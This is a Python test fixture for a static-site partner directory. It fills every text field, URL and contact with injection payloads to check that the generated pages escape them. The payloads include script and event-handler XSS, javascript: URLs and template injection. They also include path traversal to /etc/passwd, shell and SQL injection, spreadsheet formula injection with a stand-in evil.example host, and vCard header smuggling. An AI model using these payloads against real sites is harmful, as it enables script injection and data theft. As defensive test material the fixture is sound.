"""The payload matrix: a directory in which every text field holds an attack, and which texts each surface has to show.

Of `k` payloads a directory of `k` firms is made. Field number `f` of firm `i` holds payload `(i + f) % k`, so that each
stands in every field once, and no two fields of a page hold the same. Each attack calls `x()` if it ever runs.
"""

import io
import json
import shutil
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import asdict, replace
from datetime import date
from hashlib import sha256
from pathlib import Path
from random import Random

import yaml
from PIL import Image

from better_fit.model import (
    Asked,
    Contact,
    Directory,
    Expects,
    Facet,
    Message,
    Need,
    Partner,
    Picture,
    Proof,
    Recommendation,
    Term,
    VerbForms,
    Vocabulary,
    WrittenPage,
)
from better_fit.problems import Fault
from better_fit.reading.messages import SLOTS
from better_fit.reading.rules import judge

#: The picture of every firm's work is as small as one may be.
SIZE = (800, 320)


def _picture() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", SIZE, "teal").save(file, "PNG")
    return file.getvalue()


#: What a line of text may try. None holds what no text field takes, so that the validator lets most of them through.
LINES = (
    "<script>x()</script>",
    '"><img src=x onerror=x()>',
    "'-x()-'",
    "</title><svg onload=x()>",
    "</script><script>x()</script>",
    "<!--",
    "--><svg/onload=x()>",
    "]]>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]>",
    "&lt;b&gt;",
    "&amp;",
    "&#106;avascript:x()",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import '//evil.example/a.css'</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<template><img src=x onerror=x()></template>",
    "<math><mi xlink:href=javascript:x()>k</mi></math>",
    "<iframe srcdoc='<script>parent.x()</script>'></iframe>",
    "<a href=javascript:x()>k</a>",
    "<input autofocus onfocus=x()>",
    "<details open ontoggle=x()>",
    "</textarea></noscript></template><script>x()</script>",
    "<plaintext>",
    "<<script>x()//<</script>",
    'k" onmouseover="x()" autofocus onfocus="x()',
    "k' onfocus='x()' autofocus '",
    "k` onload=x() `=",
    '\\";x();//',
    "\\u003cscript\\u003ex()\\u003c/script\\u003e",
    "%3Cscript%3Ex()%3C/script%3E",
    "javascript:x()",
    "${x()} ${7*7}",
    "{{7*7}} {{ config }} {{ self.__class__ }}",
    "{% raw %}{% include '/etc/passwd' %}{# x #}",
    '--8<-- "/etc/passwd"',
    "[k](javascript:x())",
    "<javascript:x()>",
    "![k](//evil.example/beacon.png)",
    "[k]: data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=",
    "# not a heading",
    "| a | b |",
    "``` not code",
    "{: onclick=x() #__config }",
    "*[Acme]: <img src=x onerror=x()>",
    "- [ ] [TOC] :material-close: [^1]",
    "AT&T <3 Q&A; 5 < 6 > 4",
    """O'Reilly & "Söhne" `GmbH` \\ Co.""",
    '=HYPERLINK("http://evil.example?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "END:VCARD",
    "a;b,c:d\\ne",
    "__proto__",
    "constructor",
    "undefined null NaN true",
    "../../../../etc/passwd",
    "$(touch /tmp/x); `id` | cat; %s%n%d",
    "'; DROP TABLE partners; --",
    "::error::x ##[error]x ::add-mask::x",
    "مكتب النباتات (ذ.م.م)",
    "משרד צמחים 3 < 4",
    "緑の庭園株式会社 & 合同会社",
    "Ǹ̈a̋ḿé 👩 Straße ﬁ İı",
    "W" * 80,
    "🚀🚀 1",
)
#: What the validator refuses, and what may reach the pages only if it fails.
FORCED = (
    "a\r\nEMAIL:evil@evil.example\r\nEND:VCARD\r\nBEGIN:VCARD",
    "k\n---\ntemplate: evil.html\n---\n<script>x()</script>",
    "k\u2028x()\u2029<script>x()</script>",
    "\u202ekcab\u2066 <img src=x onerror=x()>",
    "k\u200b\ufeff\u00ad\U000e0041",
    "k\x00\x01\x02\x03\x1b[31m\x7f<script>x()</script>",
    "\ufffe\uffff<script>x()</script>",
    "Z" + "\u0300" * 60,
    "<script>x()</script>" * 200,
)
#: Addresses that would run or lead astray if they became links.
FORCED_URLS = (
    "javascript:x()",
    "JaVaScRiPt:x()",
    "\x01javascript:x()",
    "java\nscript:x()",
    "data:text/html,<script>parent.x()</script>",
    "vbscript:x()",
    "//evil.example/",
    'https://k.example/" onmouseover="x()',
    "https://k.example/'><script>x()</script>",
)
PLAIN = "Plain words"
#: The text fields of a firm with their kind and limit in `rules.py`; one firm has each of them once.
OF_A_FIRM = {
    "name": ("name", 80), "summary": ("line", 200), "person": ("name", 80), "best_for": ("line", 160),
    "not_for": ("line", 160), "description": ("lines", 4000), "information": ("line", 300), "people": ("line", 300),
    "deadlines": ("line", 300), "proof": ("name", 120), "because": ("line", 500), "fee": ("line", 300),
    "alt": ("alt", 200), "caption": ("line", 200), "credit": ("name", 120),
}  # fmt: skip
#: The owner's text fields, of which there is one for each payload: of a term, a facet, and a written page.
OF_THE_OWNER = {
    "term": ("name", 60), "definition": ("line", 200), "synonym": ("name", 60), "facet": ("name", 60),
    "question": ("line", 160), "title": ("line", 160), "about": ("line", 200),
    "verb": ("name", 60), "joins": ("name", 60), "object": ("name", 60),
    "it": ("name", 60), "they": ("name", 60), "we": ("name", 60), "you": ("name", 60),
}  # fmt: skip
#: The owner's words that stand within sentences; there a mark tells one from another that holds the same attack.
WITHIN = ("verb", "joins", "object", "it", "they", "we", "you")
#: The text fields of which a site has one.
OF_THE_SITE = ("site_name", "site_description", "notice")
FIELDS = tuple(OF_A_FIRM) + tuple(OF_THE_OWNER)
URL = "https://better-fit.example/sub/"
CONFIRMED = date(2026, 10, 1)
WORK = _picture()
DIGEST = sha256(WORK).hexdigest()


class Matrix:
    """A directory of these payloads. `forced`: as if nothing had been checked; else a field that does not take its
    payload holds plain words.
    """

    def __init__(self, payloads: Sequence[str], site: Sequence[str], *, forced: bool) -> None:
        """`site`: the payloads of the site's name, description and notice."""
        self.payloads, self.forced = tuple(payloads), forced
        self.settings = dict(zip(OF_THE_SITE, (first_line(words) for words in site), strict=True))
        self.directory = self._directory()

    def text(self, field: str, number: int) -> str:
        """What a field holds at the firm, the term, the facet or the page of this number."""
        words = self.payloads[(number + FIELDS.index(field)) % len(self.payloads)]
        if self.forced:
            return words
        kind, limit = (OF_A_FIRM | OF_THE_OWNER)[field]
        if field in ("name", "term", "synonym", "facet"):  # no two may look alike
            words = f"{words[: limit - 9]} {number}"
            return words if passes(kind, words, limit) else f"{field.title()} {number}"
        if field in WITHIN:
            words = f"{words[: limit - 9]} {field}{number}"
            return words if passes(kind, words, limit) else f"{field}{number}"
        return words if passes(kind, words, limit) else PLAIN

    def texts(self, *fields: str) -> set[str]:
        """All that stands in these fields."""
        return {self.text(field, number) for field in fields for number in self.numbers}

    @property
    def numbers(self) -> range:
        """One number for each payload."""
        return range(len(self.payloads))

    def others(self, *, differs: bool = False) -> Iterable[tuple[str, tuple[str]]]:
        """Each facet but the first with a term: that of every firm, or what the home firm has in its place."""
        for number in self.numbers:
            form = "other" if differs else "form"
            yield from ((f"facet-{number}", (f"only-{number}",)), (f"formed-{number}", (f"{form}-{number}",)))

    def name_of_gone(self, number: int) -> str:
        """The name of a firm that has left."""
        name = self.text("name", number)
        return name if self.forced else f"{name} gone"

    def _directory(self) -> Directory:
        firms = {slug(number): self._firm(number) for number in self.numbers}
        gone = {
            f"gone-{number}": replace(
                self._firm(number), slug=f"gone-{number}", name=self.name_of_gone(number), retired=True,
                successor=slug(number), aliases=(), recommends=(), pictures=(),
            )
            for number in self.numbers
        }  # fmt: skip
        written = []
        for number in self.numbers:
            need = Need((), (Asked("specialty", f"term-{number}"),))
            title, about = self.text("title", number), self.text("about", number)
            written.append(WrittenPage(f"situations/page-{number}.md", title, about, need))
        # In a template of the owner's, braces are slots and `#` begins a comment.
        lines = [words for words in self.payloads if self.forced or not (set("{}") & set(words) or words[0] == "#")]
        messages = {
            name: Message(lines[0] if lines else PLAIN, (*lines, *(f"{{{slot}}}" for slot in slots)))
            for name, slots in SLOTS.items()
        }
        partners = dict(sorted((firms | gone).items()))
        return Directory(self._vocabulary(), partners, slug(0), tuple(written) if self.forced else (), messages)

    def add_pages(self, others: Iterable[WrittenPage]) -> None:
        """Let the directory have the pages that every site has besides."""
        ours = {page.path: page for page in self.directory.written}
        self.directory = replace(self.directory, written=tuple((ours | {p.path: p for p in others} | ours).values()))

    def _vocabulary(self) -> Vocabulary:
        """The first facet has a term for each payload, and there are two facets for each besides: one with a verb, the
        last of these about places, and one with a verb in all its forms, by which the firms differ from their home.
        """
        terms = {
            f"term-{n}": Term(
                f"term-{n}", "specialty", self.text("term", n), self.text("definition", n),
                synonyms=(self.text("synonym", n),),
            )
            for n in self.numbers
        }  # fmt: skip
        facets = {"specialty": Facet("specialty", "Specialty", "What?", terms, 3000, True, True, True)}
        for number in self.numbers:
            facet = f"facet-{number}"
            only = Term(f"only-{number}", facet, f"Word {number}", object=self.text("object", number))
            covers = number == len(self.payloads) - 1
            label, question = self.text("facet", number), self.text("question", number)
            facets[facet] = Facet(
                facet, label, question, {only.id: only}, covers=covers,
                verb=self.text("verb", number), joins=self.text("joins", number),
            )  # fmt: skip
        for number in self.numbers:
            facet = f"formed-{number}"
            terms = {term: Term(term, facet, f"Form {term}") for term in (f"form-{number}", f"other-{number}")}
            forms = VerbForms(*(self.text(form, number) for form in ("it", "they", "we", "you")))
            facets[facet] = Facet(facet, f"Formed {number}", "How?", terms, contrast=True, forms=forms)
        return Vocabulary(facets)

    def _firm(self, number: int) -> Partner:
        def text(field: str) -> str:
            return self.text(field, number)

        after = slug((number + 1) % len(self.payloads))
        url = FORCED_URLS[number % len(FORCED_URLS)] if self.forced else f"https://firm-{number}.example/?a='x'&b=c"
        contact = Contact(f"k{number}@firm-{number}.example", "+1 303-555-0100", None, text("person"))
        if self.forced:
            words = self.payloads[number]
            contact = Contact(f"{words}?bcc=e@evil.example", f"+1{words}2345", url, text("person"))
        return Partner(
            slug(number), text("name"), text("summary"), url, contact,
            {"specialty": (f"term-{number}",), **dict(self.others(differs=number == 0))},
            best_for=(text("best_for"),), not_for=(text("not_for"),), description=text("description"),
            expects=Expects((text("information"),), (text("people"),), (text("deadlines"),)),
            proof=(Proof(text("proof"), url),),
            pictures=(Picture("work.png", text("alt"), text("caption"), text("credit"), *SIZE, DIGEST),),
            recommends=(Recommendation(after, text("because"), "met", (), None, text("fee")),),
            confirmed=CONFIRMED, aliases=(f"old-{number}",),
        )  # fmt: skip

    def write(self, project: Path) -> None:
        """Write all of it as an owner and partners would, into a project of the demonstration's settings."""
        shutil.rmtree(project / "partners")
        for number in self.numbers:
            folder = project / f"partners/pictures/{slug(number)}"
            folder.mkdir(parents=True)
            (folder / "work.png").write_bytes(WORK)
        if not self.forced:  # else the values are handed over past every file
            self._write_words(project)
            for partner in self.directory.partners.values():
                _dump(project / f"partners/{partner.slug}.yml", profile(partner))
            for name, message in self.directory.messages.items():
                path = project / f"directory/messages/{name}.txt"
                path.parent.mkdir(exist_ok=True)
                path.write_text(f"Subject: {message.subject}\n" + "\n".join(message.lines))
        for page in (project / "directory/pages").rglob("*.md"):
            page.unlink()
        for number in self.numbers:
            page = project / f"directory/pages/situations/page-{number}.md"
            page.parent.mkdir(parents=True, exist_ok=True)
            # Forced, the words come from `Directory.written`: no file could hold them.
            front = {"title": self.text("title", number), "description": self.text("about", number)}
            told = {} if self.forced else front
            head = "".join(f"{key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in told.items())
            page.write_text(f"---\n{head}need: {{prefer: {{specialty: [term-{number}]}}}}\n---\n\nWords.\n")
        self._write_settings(project)
        self.directory = replace(self.directory, folder=project / "partners")

    def _write_settings(self, project: Path) -> None:
        ours = {"site_url": URL, "site_name": self.settings["site_name"], "repo_url": "https://github.com/a-b/c",
                "site_description": self.settings["site_description"], "extra": {"notice": self.settings["notice"]},
                "docs_dir": "directory/pages", "theme": {"name": "material", "font": False},
                "plugins": [{"better-fit": {"home": slug(0)}}]}  # fmt: skip
        (project / "mkdocs.yml").write_text(json.dumps(ours, ensure_ascii=False))

    def _write_words(self, project: Path) -> None:
        facets = {
            facet.id: {
                "label": facet.label, "question": facet.question,
                **{key: "true" for key in ("primary", "contrast", "covers") if getattr(facet, key)},
                **_filled(facet, "verb", "joins"),
                **({"forms": asdict(facet.forms)} if facet.forms else {}),
                "terms": {
                    t.id: {"label": t.label, **_filled(t, "definition", "object", "synonyms")}
                    for t in facet.terms.values()
                },
            }
            for facet in self.directory.vocabulary.facets.values()
        }  # fmt: skip
        _dump(project / "directory/vocabulary.yml", {"facets": facets})


def _filled(word: Facet | Term, *names: str) -> dict[str, object]:
    """What of these a word has, as its file has it."""
    held = {name: getattr(word, name) for name in names}
    return {name: list(value) if isinstance(value, tuple) else value for name, value in held.items() if value}


def passes(kind: str, words: str, limit: int) -> bool:
    """Whether the rules take a text as it is."""
    try:
        judge(kind, words, limit)
    except Fault:
        return False
    return not words.endswith("\n")


def first_line(words: str) -> str:
    """What YAML and a setting of one line can hold of a text."""
    return "".join(c for c in words if c.isprintable())[:400] or PLAIN


def slug(number: int) -> str:
    return f"firm-{number}"


def profile(partner: Partner) -> Mapping[str, object]:
    """A firm's profile as its file has it."""
    parts: dict[str, object] = {
        "name": partner.name, "summary": partner.summary, "website": partner.website,
        "contact": {key: getattr(partner.contact, key) for key in ("email", "phone", "person")},
        **{facet: list(terms) for facet, terms in partner.terms.items()},
        "best_for": list(partner.best_for), "not_for": list(partner.not_for), "description": partner.description,
        "expects": {key: list(getattr(partner.expects, key)) for key in ("information", "people", "deadlines")},
        "proof": [{"label": p.label, "url": p.url} for p in partner.proof],
        "recommends": [
            {"partner": r.partner, "because": r.because, "basis": r.basis, "fee": r.fee} for r in partner.recommends
        ],
        "confirmed": str(partner.confirmed), "aliases": list(partner.aliases),
        "pictures": [{key: getattr(p, key) for key in ("file", "alt", "caption", "credit")} for p in partner.pictures],
    }  # fmt: skip
    if partner.retired:
        parts |= {"status": "retired", "successor": partner.successor, "website": f"https://{partner.slug}.example/"}
        parts["contact"] = {"email": f"k@{partner.slug}.example"}
    return {key: value for key, value in parts.items() if value}


def sample(payloads: Iterable[str], size: int, seed: int) -> list[str]:
    """So many of them, by chance; the same seed chooses the same."""
    return Random(seed).sample(list(payloads), size)


def _dump(path: Path, value: object) -> None:
    class Quoted(yaml.SafeDumper):
        def ignore_aliases(self, data: object) -> bool:
            return True

    # Every scalar in quotes and on one line: what stands in the file is the text and nothing else.
    path.write_text(
        yaml.dump(value, Dumper=Quoted, default_style='"', allow_unicode=True, width=100_000, sort_keys=False)
    )
